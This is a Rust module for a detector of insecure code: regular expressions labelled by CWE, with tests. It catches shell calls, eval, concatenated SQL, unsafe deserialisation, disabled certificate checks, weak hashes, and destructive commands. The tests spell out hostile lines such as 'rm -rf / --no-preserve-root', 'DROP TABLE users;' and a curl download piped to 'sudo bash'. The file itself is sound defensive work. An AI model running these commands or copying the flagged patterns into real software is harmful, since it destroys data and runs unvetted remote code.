//! Code that is dangerous by the look of one line: shells and evaluators, SQL that is put together from parts, objects read
//! from bytes, certificates that are not checked, weak digests, calls that overflow, commands that destroy.
//!
//! Each pattern lies within one line and shows by its own form which language it is of, so nothing more than a line is held
//! and what a block is fenced with does not matter: code without a fence is as dangerous. Evidence names the weakness (CWE) and
//! the line of the text.

use std::sync::LazyLock;

use super::cursor::Cursor;
use super::phrase::Phrases;
use super::{Bytes, Probe, Start, is_no_word};

fn quoted(byte: u8) -> bool {
    matches!(byte, b'"' | b'\'' | b'`')
}

pub(super) const STARTS: &[Start] = &[
    Start { left: is_no_word, bytes: Bytes::Words(&[b"os.", b"obj", b"sub", b"she", b"ser", b"ssl"]) },
    Start { left: is_no_word, bytes: Bytes::Words(&[b"sys", b"str", b"spr", b"sca", b"sha"]) },
    Start { left: is_no_word, bytes: Bytes::Words(&[b"exe", b"eva", b"evp"]) },
    Start { left: is_no_word, bytes: Bytes::Words(&[b"pas", b"pop", b"pic", b"pos", b"pro", b"cpi"]) },
    Start { left: is_no_word, bytes: Bytes::Words(&[b"run", b"rej", b"rm ", b"bin"]) },
    Start { left: is_no_word, bytes: Bytes::Words(&[b"chi", b"cip", b"cur", b"cre", b"chm", b"com"]) },
    Start {
        left: is_no_word,
        bytes: Bytes::Words(&[b"new", b"nod", b"mar", b"mes", b"md5", b"mkf", b"yam"]),
    },
    Start { left: is_no_word, bytes: Bytes::Words(&[b"uns", b"ver", b"vst", b"wge", b"int"]) },
    Start {
        left: is_no_word,
        bytes: Bytes::Words(&[b"dan", b"dro", b"doc", b"dd ", b"des", b"del", b"ins"]),
    },
    Start { left: is_no_word, bytes: Bytes::Words(&[b"has", b"get", b"inn"]) },
    Start { left: quoted, bytes: Bytes::Words(&[b"sel", b"ins", b"upd", b"del"]) },
];

static PHRASES: LazyLock<Phrases> = LazyLock::new(|| {
    #[expect(clippy::expect_used, reason = "the patterns are constants, and the tests below compile them")]
    Phrases::new(&patterns()).expect("constant patterns compile")
});

/// Compiles the patterns, once.
pub(super) fn prepare() {
    LazyLock::force(&PHRASES);
}

/// Whether such code starts here.
pub(super) fn probe(cursor: Cursor<'_>) -> Probe {
    let before = cursor.before();
    let Some(found) = PHRASES.probe(cursor)? else { return Ok(None) };
    // Methods of regular expressions and of queries are called `exec` too, and others `system` or `eval`.
    let is_method = matches!(before, b'.' | b'>' | b':') && matches!(found.label, EVAL | SHELL_CALL);
    Ok((!is_method).then_some(found))
}

const EVAL: &str = "CWE-95 evaluates text";
const SHELL_CALL: &str = "CWE-78 runs a shell";

fn patterns() -> Vec<(&'static str, String)> {
    let literal = r#"(?:f|r|b|u|\$@?|@)?["'`]{1,3}"#;
    let sql = r"(?:select|insert|update|delete|create|drop|alter|truncate|exec)\s";
    let patterns: &[(&str, String)] = &[
        ("CWE-78 runs a shell through os", r"os\.(?:system|popen)\s?\(".into()),
        ("CWE-78 runs a shell", r"subprocess\.(?:call|run|popen|check_call|check_output)\([^\n]*shell\s?=\s?true".into()),
        ("CWE-78 runs a program", r"runtime\.getruntime\(\)\s?\.exec\(".into()),
        ("CWE-78 runs a program", r"process\.start\s?\(".into()),
        (SHELL_CALL, r"(?:system|passthru|shell_exec|popen|execsync)\(\s?[a-z_$(&*@]".into()),
        (SHELL_CALL, r#"(?:system|passthru|shell_exec|popen|exec|execsync)\s?\(\s?["'`][^\n]*["'`]\s?(?:\+|\.)\s?[$a-z_(]"#.into()),
        (SHELL_CALL, r"(?:exec|shell_exec|system|passthru)\s?\(\s?\$[a-z_]".into()),
        ("CWE-78 runs a shell through child_process", r"(?:child_?process|cp)\.exec(?:sync)?\s?\(".into()),
        (EVAL, r"eval\s?\(\s?[^\s)]".into()),
        (EVAL, r"exec\s?\(\s?(?:compile\(|open\(|code|source|cmd|command|input|data|request|payload|[a-z_]+\s?(?:%|\+|\.read\())".into()),
        ("CWE-95 makes a function of text", r#"new\s+function\s?\(\s?["'a-z_]"#.into()),
        ("CWE-89 SQL put together", format!(r"execute(?:many|script|query|update|nonquery|reader)?\s?\(\s?{literal}\s*{sql}[^\n]*(?:['\x22`]\s?(?:%|\+|\.format\()|\$\{{|\{{[a-z_])")),
        ("CWE-89 SQL put together", r"(?:select|insert into|update|delete from)\s[^\n\x22]*[\x22']\s?(?:\+\s?[a-z_(]|%\s?[a-z_(]|\.\s?\$|\.format\()".into()),
        ("CWE-89 SQL put together", r"commandtext\s?=\s?[^\n]*[\x22']\s?\+".into()),
        ("CWE-502 reads objects from bytes", r"(?:c?pickle|marshal|shelve)\.(?:loads?|open|unpickler)\s?\(".into()),
        ("CWE-502 reads objects from bytes", r"yaml\.(?:load|unsafe_load|load_all)\s?\(".into()),
        ("CWE-502 reads objects from bytes", r"objectinputstream\s?\(".into()),
        ("CWE-502 reads objects from bytes", r"binaryformatter\s?\(".into()),
        ("CWE-502 reads objects from bytes", r"unserialize\s?\(\s?\$".into()),
        ("CWE-295 does not check certificates", r"verify\s?=\s?false".into()),
        ("CWE-295 does not check certificates", r"verify_(?:mode|peer)\s?(?:=|=>)\s?(?:ssl\.cert_none|openssl::ssl::verify_none|false)".into()),
        ("CWE-295 does not check certificates", r"rejectunauthorized\x22?\s?:\s?false".into()),
        ("CWE-295 does not check certificates", r"danger_accept_invalid_(?:certs|hostnames)\s?\(".into()),
        ("CWE-295 does not check certificates", r"insecureskipverify\s?:\s?true".into()),
        ("CWE-295 does not check certificates", r"curlopt_ssl_verify(?:peer|host)\s?,\s?(?:0|false)".into()),
        ("CWE-295 does not check certificates", r"node_tls_reject_unauthorized[\x22'\]]*\s?=\s?[\x22']?0".into()),
        ("CWE-295 does not check certificates", r"ssl\._create_unverified_context".into()),
        ("CWE-295 does not check certificates", r"(?:servercertificatevalidationcallback|servercertificatecustomvalidationcallback)\s?\+?=[^\n]*true".into()),
        ("CWE-295 does not check certificates", r"ssl_verify_none\b".into()),
        ("CWE-328 weak digest", r"hashlib\.(?:md5|sha1|new\(\s?['\x22](?:md5|sha1))".into()),
        ("CWE-328 weak digest", r"sha1::new\(".into()),
        ("CWE-328 weak digest", r"evp_(?:md5|sha1|md4)\s?\(".into()),
        ("CWE-327 weak algorithm", r"md5\s?\(\s?(?:\$|serialize)".into()),
        ("CWE-327 weak algorithm", r"sha1\s?\(\s?\$".into()),
        ("CWE-327 weak algorithm", r"messagedigest\.getinstance\(\s?\x22(?:md5|md2|sha-?1)\x22".into()),
        ("CWE-327 weak algorithm", r"hashing\.(?:md5|sha1)\(".into()),
        ("CWE-327 weak algorithm", r"cipher\.getinstance\(\s?\x22(?:des|desede|rc4|rc2|blowfish|aes(?:/ecb[^\x22]*)?)[/\x22]".into()),
        ("CWE-327 weak algorithm", r"createhash\(\s?['\x22](?:md5|sha1)".into()),
        ("CWE-327 weak algorithm", r"(?:md5|sha1)(?:cryptoserviceprovider|managed)?(?:\.create)?\s?\(\s?\)".into()),
        ("CWE-327 weak algorithm", r"descryptoserviceprovider\s?\(".into()),
        ("CWE-1240 weak cipher", r"evp_(?:des|bf|rc4|rc2)_[a-z0-9_]+\s?\(".into()),
        ("CWE-120 copies without a bound", r"str(?:cpy|cat)\s?\(\s?[a-z_(&*]".into()),
        ("CWE-120 copies without a bound", r"v?sprintf\s?\(\s?[a-z_]+[^\n,]*,".into()),
        ("CWE-242 reads without a bound", r"gets\s?\(\s?[a-z_]+\s?\)".into()),
        ("CWE-119 reads without a bound", r"scanf\s?\(\s?\x22[^\n\x22]*%s".into()),
        ("CWE-345 posts to any origin", r"postmessage\s?\([^\n]*,\s?['\x22]\*['\x22]".into()),
        ("CWE-79 writes markup", r"(?:innerhtml|outerhtml)\s?\+?=\s?[a-z_$`]".into()),
        ("CWE-79 writes markup", r"document\.write(?:ln)?\s?\(\s?[a-z_$`]".into()),
        ("CWE-79 writes markup", r"dangerouslysetinnerhtml\s?=".into()),
        ("CWE-798 password in code", r#"pass(?:word|wd)?['\x22]?\]?\s?=\s?['\x22][^'\x22\s{$%<]{3,40}['\x22]"#.into()),
        ("CWE-732 everyone may write", r"chmod\s+(?:-r\s+)?0?777\b".into()),
        ("destroys files", r"rm\s+-(?:rf|fr|r\s+-f)\s+(?:--no-preserve-root\s+)?(?:/|~|\*|\$|\.\s)".into()),
        ("destroys data", r"drop\s+(?:table|database|schema)\s+[a-z_`\x22\[]".into()),
        ("destroys data", r"dd\s+if=[^\n]*of=/dev/[a-z]".into()),
        ("destroys data", r"mkfs(?:\.[a-z0-9]+)?\s+(?:-[a-z]\s+)*/dev/".into()),
        ("CWE-494 runs what it fetched", r"(?:curl|wget)\s[^\n|]*\|\s*(?:sudo\s+)?(?:ba|z|k)?sh\b".into()),
    ];
    patterns.to_vec()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::{Detector, finds, redacted};

    #[test]
    fn finds_each_weakness_with_its_line() {
        for (code, label) in [
            ("os.system('rm ' + name)", "CWE-78"),
            ("subprocess.run(cmd, shell=True)", "CWE-78"),
            ("Runtime.getRuntime().exec(command)", "CWE-78"),
            ("system($cmd);", "CWE-78"),
            ("eval(user_input)", "CWE-95"),
            ("cursor.execute(\"SELECT * FROM t WHERE id = %s\" % id)", "CWE-89"),
            ("cursor.execute(f\"SELECT * FROM t WHERE id = {id}\")", "CWE-89"),
            ("q = \"SELECT * FROM t WHERE n = '\" + name", "CWE-89"),
            ("pickle.loads(data)", "CWE-502"),
            ("new ObjectInputStream(in)", "CWE-502"),
            ("requests.get(url, verify=False)", "CWE-295"),
            ("{ rejectUnauthorized: false }", "CWE-295"),
            ("hashlib.md5(password)", "CWE-328"),
            ("MessageDigest.getInstance(\"SHA-1\")", "CWE-327"),
            ("strcpy(dst, src);", "CWE-120"),
            ("gets(line);", "CWE-242"),
            ("win.postMessage(data, \"*\")", "CWE-345"),
            ("el.innerHTML = text", "CWE-79"),
            ("password = \"megadeth\"", "CWE-798"),
            ("rm -rf / --no-preserve-root", "destroys"),
            ("DROP TABLE users;", "destroys"),
            ("curl -s https://x.example/i.sh | sudo bash", "CWE-494"),
        ] {
            let text = format!("Sure:\n```\nx = 1\n{code}\n```\n");
            let found = finds(Detector::InsecureCode, &text);
            assert!(
                found.len() == 1 && found[0].starts_with(label) && found[0].ends_with(", line 4"),
                "{code} {found:?}"
            );
        }
    }

    #[test]
    fn leaves_ordinary_code_and_prose() {
        for text in [
            "pattern.exec(text)",
            "cursor.execute(\"SELECT * FROM t WHERE id = ?\", (id,))",
            "the system (which is old) may run",
            "subprocess.run([\"ls\", path])",
            "hashlib.sha256(data)",
            "yaml.safe_load(stream)",
            "strncpy(dst, src, n)",
            "snprintf(buf, sizeof buf, \"%s\", s)",
            "requests.get(url, verify=True)",
            "select a colour from the menu + more",
            "rm -rf build/",
            "curl -s https://x.example/data | jq .",
            "evaluate(x)",
            "password = input()",
            "a drop table in the kitchen".trim_end_matches(" in the kitchen").trim_end_matches("table"),
        ] {
            assert_eq!(redacted(Detector::InsecureCode, text), text);
        }
    }

    #[test]
    fn the_automaton_stays_small() {
        assert!(PHRASES.memory() < 2 << 20, "{}", PHRASES.memory());
    }
}
